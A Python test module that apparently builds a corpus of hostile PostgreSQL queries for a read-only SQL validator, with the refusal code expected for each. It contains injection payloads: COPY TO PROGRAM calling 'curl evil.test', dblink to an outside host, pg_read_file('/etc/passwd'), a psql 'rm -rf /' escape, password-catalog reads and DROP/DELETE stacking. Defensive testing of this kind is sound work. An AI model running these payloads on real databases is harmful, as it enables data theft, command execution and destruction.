"""Hostile SQL, each with the refusal code the validator must raise.

Families are generated from small tables of parts so each id says what the
attack is (``stacked:semicolon_newline:drop``, ``function:where:pg_sleep``).
Run against tests.validator_corpus.retail_schema().
"""

from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    id: str
    sql: str
    code: str


WRITES = {
    "insert": "INSERT INTO orders (order_id) VALUES (9999)",
    "update": "UPDATE orders SET status = 'x'",
    "delete": "DELETE FROM orders",
    "truncate": "TRUNCATE orders",
    "drop": "DROP TABLE orders",
    "alter": "ALTER TABLE orders DROP COLUMN status",
    "grant": "GRANT ALL ON orders TO PUBLIC",
    "copy_program": "COPY orders TO PROGRAM 'curl evil.test'",
    "create_role": "CREATE ROLE evil SUPERUSER",
    "set_timeout": "SET statement_timeout = 0",
}

STATEMENTS = {
    **WRITES,
    "insert_select": "INSERT INTO orders SELECT * FROM orders",
    "insert_returning": "INSERT INTO orders (order_id) VALUES (9999) RETURNING *",
    "update_from": "UPDATE orders o SET status = 'x' FROM customers c WHERE c.customer_id = o.customer_id",
    "update_returning": "UPDATE orders SET status = 'x' RETURNING order_id",
    "delete_using": "DELETE FROM orders USING customers WHERE true",
    "delete_returning": "DELETE FROM orders RETURNING *",
    "merge": "MERGE INTO orders o USING orders s ON o.order_id = s.order_id WHEN MATCHED THEN UPDATE SET status = 'x'",
    "upsert": "INSERT INTO orders (order_id) VALUES (1) ON CONFLICT (order_id) DO UPDATE SET status = 'x'",
    "create_table": "CREATE TABLE t (a int)",
    "create_table_as": "CREATE TABLE t AS SELECT * FROM orders",
    "create_temp_as": "CREATE TEMP TABLE t AS SELECT * FROM orders",
    "create_unlogged": "CREATE UNLOGGED TABLE t (a int)",
    "create_index": "CREATE INDEX ON orders (status)",
    "create_view": "CREATE VIEW v AS SELECT * FROM orders",
    "create_mview": "CREATE MATERIALIZED VIEW v AS SELECT * FROM orders",
    "create_function": "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM orders RETURNING 1 $$",
    "create_or_replace_function": "CREATE OR REPLACE FUNCTION lower(text) RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$",
    "create_trigger": "CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()",
    "create_extension": "CREATE EXTENSION dblink",
    "create_schema": "CREATE SCHEMA evil",
    "create_sequence": "CREATE SEQUENCE s",
    "create_rule": "CREATE RULE r AS ON SELECT TO orders DO INSTEAD NOTHING",
    "create_policy": "CREATE POLICY p ON orders USING (true)",
    "create_user": "CREATE USER evil WITH PASSWORD 'x'",
    "alter_role": "ALTER ROLE postgres PASSWORD 'x'",
    "alter_system": "ALTER SYSTEM SET log_statement = 'none'",
    "alter_table_owner": "ALTER TABLE orders OWNER TO evil",
    "alter_default_privileges": "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
    "drop_schema": "DROP SCHEMA public CASCADE",
    "drop_database": "DROP DATABASE retail",
    "drop_if_exists": "DROP TABLE IF EXISTS orders",
    "drop_function": "DROP FUNCTION f",
    "revoke": "REVOKE SELECT ON orders FROM PUBLIC",
    "copy_from_program": "COPY orders FROM PROGRAM 'id'",
    "copy_to_file": "COPY orders TO '/tmp/orders.csv'",
    "copy_from_stdin": "COPY orders FROM STDIN",
    "copy_query_to_program": "COPY (SELECT 1) TO PROGRAM 'sh -c id'",
    "reset_all": "RESET ALL",
    "reset_role": "RESET ROLE",
    "set_role": "SET ROLE postgres",
    "set_local": "SET LOCAL search_path = evil",
    "set_session_authorization": "SET SESSION AUTHORIZATION postgres",
    "set_transaction_rw": "SET TRANSACTION READ WRITE",
    "set_config_statement": "SET default_transaction_read_only = off",
    "show_all": "SHOW ALL",
    "show_hba": "SHOW hba_file",
    "begin": "BEGIN",
    "begin_rw": "BEGIN READ WRITE",
    "start_transaction": "START TRANSACTION READ WRITE",
    "commit": "COMMIT",
    "rollback": "ROLLBACK",
    "abort": "ABORT",
    "end": "END",
    "savepoint": "SAVEPOINT s",
    "release": "RELEASE SAVEPOINT s",
    "prepare_transaction": "PREPARE TRANSACTION 'x'",
    "prepare": "PREPARE p AS DELETE FROM orders",
    "execute": "EXECUTE p",
    "deallocate": "DEALLOCATE p",
    "do_block": "DO $$ BEGIN DELETE FROM orders; END $$",
    "do_language": "DO LANGUAGE plpgsql $x$ BEGIN PERFORM pg_sleep(10); END $x$",
    "call": "CALL evil()",
    "explain": "EXPLAIN SELECT 1",
    "explain_analyze_delete": "EXPLAIN ANALYZE DELETE FROM orders",
    "explain_options": "EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET status = 'x'",
    "listen": "LISTEN chan",
    "unlisten": "UNLISTEN *",
    "notify": "NOTIFY chan",
    "lock": "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
    "vacuum_full": "VACUUM FULL orders",
    "analyze": "ANALYZE orders",
    "cluster": "CLUSTER orders",
    "reindex": "REINDEX TABLE orders",
    "refresh": "REFRESH MATERIALIZED VIEW v",
    "comment_on": "COMMENT ON TABLE orders IS 'owned'",
    "security_label": "SECURITY LABEL ON TABLE orders IS 'x'",
    "discard": "DISCARD ALL",
    "checkpoint": "CHECKPOINT",
    "load": "LOAD '/tmp/evil.so'",
    "import_foreign_schema": "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public",
    "reassign_owned": "REASSIGN OWNED BY postgres TO evil",
    "declare_cursor": "DECLARE c CURSOR FOR SELECT * FROM orders",
    "fetch_cursor": "FETCH ALL FROM c",
    "close_cursor": "CLOSE c",
    "values": "VALUES (1)",
    "with_delete_top": "WITH x AS (SELECT 1) DELETE FROM orders",
    "with_insert_top": "WITH x AS (SELECT 1) INSERT INTO orders (order_id) SELECT 1 FROM x",
}

# Older sqlglot releases cannot parse these at all (parse_error); newer ones parse some
# as commands (30.31: RELEASE -> write_statement). Either refusal is just as final.
UNPARSEABLE = {"release", "unlisten", "start_transaction", "security_label", "import_foreign_schema", "reassign_owned"}


def accepted_codes(attack: Attack) -> set[str]:
    """The refusal codes that pass for this attack: one, or either for a statement sqlglot may not parse."""
    if attack.id.startswith("statement") and attack.id.split(":")[1] in UNPARSEABLE:
        return {"parse_error", "write_statement"}
    return {attack.code}


DML_IN_CTE = {
    "delete": "DELETE FROM orders RETURNING order_id",
    "update": "UPDATE orders SET status = 'x' RETURNING order_id",
    "insert": "INSERT INTO orders (order_id) VALUES (9999) RETURNING order_id",
    "merge": "MERGE INTO orders o USING orders s ON o.order_id = s.order_id WHEN MATCHED THEN DELETE",
}
CTE_SHAPES = {
    "top": "WITH w AS ({dml}) SELECT * FROM w",
    "unused": "WITH w AS ({dml}) SELECT 1",
    "second": "WITH a AS (SELECT 1 AS x), w AS ({dml}) SELECT x FROM a",
    "recursive": "WITH RECURSIVE w AS ({dml}) SELECT 1",
    "in_subquery": "SELECT * FROM (WITH w AS ({dml}) SELECT * FROM w) s",
    "in_where": "SELECT 1 WHERE EXISTS (WITH w AS ({dml}) SELECT 1 FROM w)",
}

SEPARATORS = {
    "semicolon": "; ",
    "semicolon_newline": ";\n",
    "no_space": ";",
    "block_comment": " /* harmless */; ",
    "line_comment": " -- harmless\n; ",
    "comment_after_semicolon": "; /* hidden */ ",
    "double_semicolon": ";; ",
    "dollar_string_first": ", $$x$$; ",
    "e_string_first": ", E'\\''; ",
    "backslash_string_first": ", 'a\\'; ",
}

LOCKS = ["FOR UPDATE", "FOR NO KEY UPDATE", "FOR SHARE", "FOR KEY SHARE", "FOR UPDATE NOWAIT", "FOR UPDATE SKIP LOCKED",
         "FOR UPDATE OF orders", "FOR SHARE OF orders NOWAIT"]
LOCK_SHAPES = {
    "top": "SELECT * FROM orders {lock}",
    "subquery": "SELECT * FROM (SELECT * FROM orders {lock}) s",
    "cte": "WITH w AS (SELECT * FROM orders {lock}) SELECT * FROM w",
}

INTO = {
    "plain": "SELECT * INTO stolen FROM orders",
    "temp": "SELECT * INTO TEMP stolen FROM orders",
    "temporary": "SELECT order_id INTO TEMPORARY TABLE stolen FROM orders",
    "unlogged": "SELECT * INTO UNLOGGED stolen FROM orders",
    "table_kw": "SELECT * INTO TABLE stolen FROM orders",
    "with_where": "SELECT order_id INTO stolen FROM orders WHERE status = 'paid'",
    "cte": "WITH w AS (SELECT 1 AS x) SELECT x INTO stolen FROM w",
    "union": "SELECT order_id INTO stolen FROM orders UNION SELECT 1",
}

FUNCTIONS = {
    # time, sessions and server
    "pg_sleep": "pg_sleep(10)",
    "pg_sleep_for": "pg_sleep_for('10 seconds')",
    "pg_sleep_until": "pg_sleep_until(now() + interval '1 hour')",
    "pg_terminate_backend": "pg_terminate_backend(1)",
    "pg_cancel_backend": "pg_cancel_backend(1)",
    "pg_reload_conf": "pg_reload_conf()",
    "pg_rotate_logfile": "pg_rotate_logfile()",
    "pg_promote": "pg_promote()",
    "set_config": "set_config('default_transaction_read_only', 'off', false)",
    "current_setting": "current_setting('data_directory')",
    "pg_backend_pid": "pg_backend_pid()",
    "version": "version()",
    "current_database": "current_database()",
    "inet_server_addr": "inet_server_addr()",
    "pg_postmaster_start_time": "pg_postmaster_start_time()",
    "pg_stat_reset": "pg_stat_reset()",
    "pg_switch_wal": "pg_switch_wal()",
    "pg_create_restore_point": "pg_create_restore_point('x')",
    "pg_create_logical_replication_slot": "pg_create_logical_replication_slot('s', 'test_decoding')",
    # files, large objects, network, processes
    "pg_read_file": "pg_read_file('/etc/passwd')",
    "pg_read_binary_file": "pg_read_binary_file('/etc/passwd')",
    "pg_ls_dir": "pg_ls_dir('/')",
    "pg_stat_file": "pg_stat_file('/etc/passwd')",
    "pg_ls_logdir": "pg_ls_logdir()",
    "pg_ls_waldir": "pg_ls_waldir()",
    "pg_file_write": "pg_file_write('/tmp/x', 'x', false)",
    "lo_import": "lo_import('/etc/passwd')",
    "lo_export": "lo_export(1, '/tmp/x')",
    "lo_create": "lo_create(0)",
    "lo_creat": "lo_creat(-1)",
    "lo_unlink": "lo_unlink(1)",
    "lo_from_bytea": "lo_from_bytea(0, 'x')",
    "lo_put": "lo_put(1, 0, 'x')",
    "lo_get": "lo_get(1)",
    "dblink": "dblink('host=evil.test', 'SELECT 1')",
    "dblink_exec": "dblink_exec('dbname=retail', 'DROP TABLE orders')",
    "dblink_connect": "dblink_connect('c', 'host=evil.test')",
    # sequences, locks, transactions, notifications
    "nextval": "nextval('order_seq')",
    "setval": "setval('order_seq', 1)",
    "currval": "currval('order_seq')",
    "lastval": "lastval()",
    "pg_advisory_lock": "pg_advisory_lock(1)",
    "pg_advisory_xact_lock": "pg_advisory_xact_lock(1)",
    "pg_try_advisory_lock": "pg_try_advisory_lock(1)",
    "pg_advisory_lock_shared": "pg_advisory_lock_shared(1)",
    "pg_advisory_unlock_all": "pg_advisory_unlock_all()",
    "txid_current": "txid_current()",
    "pg_current_xact_id": "pg_current_xact_id()",
    "pg_notify": "pg_notify('chan', 'x')",
    # functions that run SQL strings or look up catalog objects
    "query_to_xml": "query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')",
    "query_to_xml_and_xmlschema": "query_to_xml_and_xmlschema('SELECT 1', true, true, '')",
    "query_to_xmlschema": "query_to_xmlschema('SELECT 1', true, true, '')",
    "cursor_to_xml": "cursor_to_xml('c', 1, true, true, '')",
    "table_to_xml": "table_to_xml('orders', true, true, '')",
    "schema_to_xml": "schema_to_xml('public', true, true, '')",
    "database_to_xml": "database_to_xml(true, true, '')",
    "xpath": "xpath('/a', '<a/>')",
    "xmlelement": "xmlelement(name a)",
    "to_regclass": "to_regclass('orders')",
    "pg_get_functiondef": "pg_get_functiondef(1)",
    "pg_get_viewdef": "pg_get_viewdef('v')",
    "has_table_privilege": "has_table_privilege('orders', 'INSERT')",
    "pg_table_size": "pg_table_size('orders')",
    "pg_relation_filepath": "pg_relation_filepath('orders')",
    "obj_description": "obj_description(1)",
    "pg_get_keywords": "pg_get_keywords()",
    "pg_logical_emit_message": "pg_logical_emit_message(true, 'x', 'y')",
    "pg_import_system_collations": "pg_import_system_collations('pg_catalog')",
    "user_defined": "evil_function(1)",
    "user_defined_qualified": "public.evil_function(1)",
}
FUNCTION_SHAPES = {
    "select": "SELECT {call}",
    "where": "SELECT order_id FROM orders WHERE {call} IS NOT NULL",
    "from": "SELECT * FROM {call} AS f",
    "lateral": "SELECT o.order_id FROM orders o CROSS JOIN LATERAL (SELECT {call}) AS f",
    "cte": "WITH w AS (SELECT {call} AS x) SELECT x FROM w",
    "order_by": "SELECT order_id FROM orders ORDER BY {call}",
}
FUNCTION_SAMPLE_SHAPES = ["where", "from", "lateral", "cte", "order_by"]  # every function gets "select"; these rotate

SPELLINGS = {
    "upper_case": "SELECT PG_SLEEP(1)",
    "mixed_case": "SELECT Pg_SlEeP(1)",
    "quoted": 'SELECT "pg_sleep"(1)',
    "pg_catalog_qualified": "SELECT pg_catalog.pg_sleep(1)",
    "quoted_qualified": 'SELECT "pg_catalog"."pg_sleep"(1)',
    "public_qualified": "SELECT public.pg_sleep(1)",
    "spaces_before_paren": "SELECT pg_sleep   (1)",
    "comment_before_paren": "SELECT pg_sleep/**/(1)",
    "newline_inside": "SELECT pg_sleep(\n1\n)",
    "in_case": "SELECT CASE WHEN true THEN pg_sleep(1) END",
    "in_coalesce": "SELECT coalesce(pg_sleep(1)::text, 'x')",
    "in_aggregate_filter": "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders",
    "in_window": "SELECT row_number() OVER (ORDER BY pg_sleep(1))",
    "in_join_on": "SELECT 1 FROM orders o JOIN customers c ON pg_sleep(1) IS NULL",
    "in_having": "SELECT status FROM orders GROUP BY status HAVING pg_sleep(1) IS NULL",
    "in_values": "SELECT * FROM (VALUES (pg_sleep(1))) v(x)",
    "in_union_branch": "SELECT 1 UNION SELECT nextval('order_seq')",
    "in_limit": "SELECT 1 LIMIT (SELECT nextval('order_seq'))",
    "in_offset": "SELECT 1 OFFSET (SELECT setval('order_seq', 1))",
    "in_array": "SELECT ARRAY[pg_sleep(1)]",
    "in_default_arg": "SELECT lower(set_config('a.b', 'c', false))",
    "in_cast": "SELECT CAST(nextval('order_seq') AS text)",
    "in_distinct_on": "SELECT DISTINCT ON (pg_sleep(1)) 1",
    "in_group_by": "SELECT 1 FROM orders GROUP BY nextval('order_seq')",
    "in_recursive_cte": "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE pg_sleep(1) IS NULL) SELECT n FROM r",
}

LOOKALIKES = {
    "cyrillic_e_in_delete": ("D\u0415LETE FROM orders", "parse_error"),
    "cyrillic_a_in_drop_table": ("DROP T\u0410BLE orders", "write_statement"),
    "cyrillic_o_in_select": ("SEL\u0415CT 1", "parse_error"),
    "fullwidth_delete": ("\uff24\uff25\uff2c\uff25\uff34\uff25 FROM orders", "parse_error"),
    "fullwidth_select_column": ("SELECT \uff24\uff25\uff2c\uff25\uff34\uff25 FROM orders", "unknown_column"),
    "cyrillic_function_name": ("SELECT pg_sl\u0435\u0435p(1)", "forbidden_function"),
    "kelvin_sign_rank": ("SELECT ran\u212a() OVER () FROM orders", "forbidden_function"),
    "long_s_sum": ("SELECT \u017fum(quantity) FROM order_items", "forbidden_function"),
    "dotless_i_initcap": ("SELECT \u0131nitcap(email) FROM customers", "forbidden_function"),
    "fullwidth_function": ("SELECT \uff50\uff47_sleep(1)", "forbidden_function"),
    "cyrillic_table": ("SELECT * FROM \u043erders", "unknown_table"),
    "zero_width_space_in_table": ("SELECT * FROM ord\u200bers", "unknown_table"),
    "unicode_escape_table": ('SELECT * FROM U&"\\0070g_shadow"', "parse_error"),
    "unicode_escape_column": ('SELECT U&"\\0070assword" FROM orders', "unknown_column"),
    "nbsp_between_keywords": ("DELETE\u00a0FROM orders", "write_statement"),
}

QUOTING = {
    "e_string_breakout": ("SELECT E'\\''; DROP TABLE orders; --'", "multiple_statements"),
    "backslash_breakout": ("SELECT 'a\\'; DROP TABLE orders; --'", "multiple_statements"),
    "dollar_breakout": ("SELECT $$a$$; DROP TABLE orders; --$$", "multiple_statements"),
    "dollar_tag_breakout": ("SELECT $t$a$t$; DELETE FROM orders", "multiple_statements"),
    "quoted_identifier_breakout": ('SELECT "a"; DROP TABLE orders; --" FROM orders', "multiple_statements"),
    "comment_opener_in_string": ("SELECT '/*' ; DELETE FROM orders --*/", "multiple_statements"),
    "line_comment_then_delete": ("-- SELECT 1\nDELETE FROM orders", "write_statement"),
    "block_comment_then_delete": ("/* SELECT 1 */ DELETE FROM orders", "write_statement"),
    "comment_inside_keyword_split": ("DEL/**/ETE FROM orders", "parse_error"),
    "unterminated_comment": ("SELECT 1 /* DROP TABLE orders", "parse_error"),
    "unterminated_string": ("SELECT 'abc", "parse_error"),
    "unterminated_dollar": ("SELECT $$abc", "parse_error"),
    "psql_gexec": ("SELECT 'DROP TABLE orders' \\gexec", "parse_error"),
    "psql_bang": ("\\! rm -rf /", "parse_error"),
    "nul_byte_splits": ("SELECT 1\x00DROP TABLE orders", "parse_error"),
    "quoted_select_keyword_table": ('SELECT * FROM "select"', "unknown_table"),
    "quoted_upper_orders": ('SELECT * FROM "ORDERS"', "unknown_table"),
    "placeholder_param": ("SELECT * FROM orders WHERE order_id = $1", "write_statement"),
    "operator_call": ("SELECT 1 OPERATOR(public.+) 1", "forbidden_function"),
}

REG_TYPES = ["regclass", "regproc", "regprocedure", "regoper", "regoperator", "regtype", "regrole", "regnamespace",
             "regconfig", "regdictionary", "regcollation", "pg_catalog.regclass"]

CATALOGS = ["pg_catalog.pg_authid", "pg_shadow", "pg_authid", "pg_user", "pg_roles", "pg_settings", "pg_stat_activity",
            "pg_file_settings", "pg_hba_file_rules", "pg_proc", "pg_largeobject", "pg_catalog.pg_class",
            "information_schema.tables", "information_schema.columns", "information_schema.role_table_grants",
            "pg_toast.pg_toast_2619", "pg_temp.t", "PG_CATALOG.PG_CLASS", '"pg_catalog"."pg_class"']
CATALOG_SHAPES = {
    "from": "SELECT * FROM {t}",
    "join": "SELECT 1 FROM orders o JOIN {t} x ON true",
    "subquery": "SELECT order_id FROM orders WHERE EXISTS (SELECT 1 FROM {t})",
    "cte": "WITH w AS (SELECT * FROM {t}) SELECT * FROM w",
    "union": "SELECT 1 UNION SELECT 1 FROM {t}",
}


# Look like attacks but are harmless reads: accepted, and what runs is exactly the harmless part.
HARMLESS = {
    "nested_comment_swallows_drop": ("SELECT 1 /* /* */ ; DROP TABLE orders */", "SELECT 1 LIMIT 1000"),
    "drop_inside_string": ("SELECT 'x''; DROP TABLE orders; --' AS s", "SELECT 'x''; DROP TABLE orders; --' AS s LIMIT 1000"),
    "delete_inside_dollar_string": ("SELECT $$; DELETE FROM orders; $$ AS s", "SELECT '; DELETE FROM orders; ' AS s LIMIT 1000"),
    "semicolon_in_quoted_alias": ('SELECT 1 AS "a;DROP TABLE orders"', 'SELECT 1 AS "a;DROP TABLE orders" LIMIT 1000'),
    "comment_only_tail": ("SELECT 1 -- ; DROP TABLE orders", "SELECT 1 LIMIT 1000"),
}


def _size_attacks() -> list[Attack]:
    return [
        Attack("size:over_20000_chars", "SELECT " + " + ".join(["1"] * 5000), "too_complex"),
        Attack("size:long_string_literal", "SELECT '" + "x" * 20_001 + "'", "too_complex"),
        Attack("size:parens_51_deep", "SELECT " + "(" * 51 + "1" + ")" * 51, "too_complex"),
        Attack("size:parens_500_deep", "SELECT " + "(" * 500 + "1" + ")" * 500, "too_complex"),
        Attack("size:subqueries_60_deep", "SELECT " + "(SELECT " * 60 + "1" + ")" * 60, "too_complex"),
        Attack("size:brackets_60_deep", "SELECT " + "ARRAY[" * 60 + "1" + "]" * 60, "too_complex"),
        Attack("size:and_chain_2000", "SELECT 1 WHERE " + " AND ".join(["true"] * 2000), "too_complex"),
        Attack("size:plus_chain_3000", "SELECT " + "+".join(["1"] * 3000), "too_complex"),
        Attack("size:case_nesting_60", "SELECT " + "CASE WHEN true THEN " * 60 + "1" + " END" * 60, "too_complex"),
        Attack("size:cte_chain_300", "WITH " + ", ".join(f"c{i} AS (SELECT 1)" for i in range(300)) + " SELECT 1" + " " * 20_000, "too_complex"),
        Attack("size:unbalanced_open_parens", "SELECT " + "(" * 10_000, "too_complex"),
    ]


def attacks() -> list[Attack]:
    out: list[Attack] = []
    for name, sql in STATEMENTS.items():
        out.append(Attack(f"statement:{name}", sql, "parse_error" if name in UNPARSEABLE else "write_statement"))
        out.append(Attack(f"statement_lower_trailing_semicolon:{name}", sql.lower() + ";", "parse_error" if name in UNPARSEABLE else "write_statement"))
    for dml_name, dml in DML_IN_CTE.items():
        for shape_name, shape in CTE_SHAPES.items():
            out.append(Attack(f"writable_cte:{shape_name}:{dml_name}", shape.format(dml=dml), "data_modifying_cte"))
    for sep_name, sep in SEPARATORS.items():
        for write_name, write in WRITES.items():
            out.append(Attack(f"stacked:{sep_name}:{write_name}", f"SELECT 1{sep}{write}", "multiple_statements"))
    for lock in LOCKS:
        for shape_name, shape in LOCK_SHAPES.items():
            out.append(Attack(f"lock:{shape_name}:{lock.lower().replace(' ', '_')}", shape.format(lock=lock), "locking_clause"))
    out += [Attack(f"select_into:{name}", sql, "select_into") for name, sql in INTO.items()]
    for i, (name, call) in enumerate(FUNCTIONS.items()):
        out.append(Attack(f"function:select:{name}", FUNCTION_SHAPES["select"].format(call=call), "forbidden_function"))
        shape = FUNCTION_SAMPLE_SHAPES[i % len(FUNCTION_SAMPLE_SHAPES)]
        out.append(Attack(f"function:{shape}:{name}", FUNCTION_SHAPES[shape].format(call=call), "forbidden_function"))
    out += [Attack(f"function_spelling:{name}", sql, "forbidden_function") for name, sql in SPELLINGS.items()]
    out += [Attack(f"lookalike:{name}", sql, code) for name, (sql, code) in LOOKALIKES.items()]
    out += [Attack(f"quoting:{name}", sql, code) for name, (sql, code) in QUOTING.items()]
    for reg in REG_TYPES:
        out.append(Attack(f"reg_cast:colon:{reg}", f"SELECT 'orders'::{reg}", "forbidden_function"))
        out.append(Attack(f"reg_cast:cast:{reg}", f"SELECT order_id FROM orders WHERE CAST('x' AS {reg}) IS NULL", "forbidden_function"))
    for i, table in enumerate(CATALOGS):
        shape_name = list(CATALOG_SHAPES)[i % len(CATALOG_SHAPES)]
        out.append(Attack(f"catalog:from:{table}", CATALOG_SHAPES["from"].format(t=table), "system_catalog"))
        if shape_name != "from":
            out.append(Attack(f"catalog:{shape_name}:{table}", CATALOG_SHAPES[shape_name].format(t=table), "system_catalog"))
    return out + _size_attacks()
